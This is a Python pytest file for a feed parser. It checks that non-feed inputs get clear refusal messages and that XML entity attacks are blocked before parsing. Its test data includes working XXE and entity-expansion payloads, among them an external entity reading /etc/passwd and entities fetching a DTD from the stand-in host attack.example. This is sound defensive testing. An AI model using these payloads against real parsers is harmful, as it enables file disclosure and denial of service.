"""What is no feed is refused with a reason a person understands; what attacks is refused before parsing."""

from __future__ import annotations

import gzip

import pytest

from ingest.entries import FormatError
from ingest.formats import parse
from tests.ingest.formats import samples

ATTACKS = {
    "entities that refer to entities": '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>',
    "an entity that refers to itself": '<!DOCTYPE r [<!ENTITY a "1 &b;"><!ENTITY b "&a;">]>',
    "one long entity, used often": f'<!DOCTYPE r [<!ENTITY a "{"B" * 5000}">]>',
    "an external file": '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "an external address": "<!doctype r [<!ENTITY a PUBLIC 'x' 'https://attack.example/'>]>",
    "a parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://attack.example/x.dtd"> %p;]>',
    "thousands of entities": "<!DOCTYPE r [" + "".join(f'<!ENTITY e{n} "x">' for n in range(2000)) + "]>",
}


@pytest.mark.parametrize("prolog", ATTACKS.values(), ids=ATTACKS.keys())
def test_entity_attacks_are_refused_whatever_the_document_claims_to_be(prolog: str) -> None:
    for encoding in ("utf-8", "utf-16"):
        for body in (
            samples.ATOM,
            samples.CAP,
            "<rss><channel><item><title>&a;</title></item></channel></rss>",
        ):
            root = body[body.index("?>") + 2 :] if body.startswith("<?xml") else body
            document = f"<?xml version='1.0' encoding='{encoding}'?><!-- c -->{prolog}{root}"
            with pytest.raises(FormatError, match="refused: the XML declares"):
                parse(document.encode(encoding))


def test_harmless_declarations_do_no_harm() -> None:
    prolog = (
        '<!DOCTYPE rdf:RDF [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent"> %HTMLlat1; <!ENTITY org "Dorp &#38; Dijk">]>'
    )
    feed = "<rss><channel><item><title>&org; <![CDATA[&org;]]></title></item></channel></rss>"
    (entry,) = parse((prolog + feed).encode()).entries
    assert entry.title.replace("&amp;", "&") == "Dorp & Dijk &org;"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "empty"),
        (b" \r\n\x00", "empty"),
        (b"PK\x03\x04rest", "ZIP"),
        (b"%PDF-1.7 ...", "PDF"),
        (b"\x89PNG\r\n\x1a\n", "PNG"),
        (bytes(range(256)) * 9, "binary"),
        (b"\x1f\x8b\x08broken", "gzip that cannot be unpacked"),
        (gzip.compress(b"<rss>" + b"a" * 10_485_760), "larger than 10,485,760 bytes; HORIZONSCAN_MAX_BODY"),
        (b"hello", "text that is no feed"),
        (b"<!-- ", "breaks off"),
        (b"<!DOCTYPE rss [", "DOCTYPE has no end"),
        (b"<catalog xmlns='urn:c'><book/></catalog>", "root element is <catalog> (urn:c)"),
        (b"<opml version='2.0'><body/></opml>", "OPML"),
        (b"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/>", "<rdf:RDF>"),
        (b'{"dataType": "CVE_RECORD", "containers": {}}', "top-level keys: dataType, containers"),
        (b'[{"headline": "x", "when": 1}]', "a list of objects with headline, when"),
        (b'{"version": "https://jsonfeed.org/version/2", "items": []}', "top-level keys: version, items"),
        (b'{"a" 1}', "JSON that cannot be read"),
        (b'{"a":' * 100_000, "nested too deeply"),
        (b"<rss><channel><item><title>" + b"&" * 5000 + b"</title></item></channel></rss>", "in a row"),
        (
            b"<rss><channel><item>" + b"<a></a>" * 200_000 + b"</item></channel></rss>",
            "more than 300,000 tags",
        ),
    ],
)
def test_the_reason_says_what_it_is(body: bytes, reason: str) -> None:
    with pytest.raises(FormatError) as refused:
        parse(body)
    text = str(refused.value)
    assert reason in text and "\n" not in text and len(text) < 400


def test_a_page_is_named_and_its_feed_pointed_out() -> None:
    page = (
        "<!DOCTYPE html><html><head><title>Gemeente\n Waterdorp</title>"
        '<link rel="alternate" type="application/rss+xml" href="/feed?a=1&amp;b=2"></head></html>'
    )
    with pytest.raises(FormatError, match=r"titled “Gemeente Waterdorp”.*feed: /feed\?a=1&b=2"):
        parse(page.encode(), content_type="application/rss+xml")


def test_endless_lists_are_read_up_to_a_limit_and_say_so() -> None:
    feed = "<rss><channel>" + "<item><guid>x</guid></item>" * 10_050 + "</channel></rss>"
    document = parse(feed.encode())
    assert len(document.entries) == 10_000 and not document.truncated
    assert document.problems == ["only the first 10,000 entries were read"]
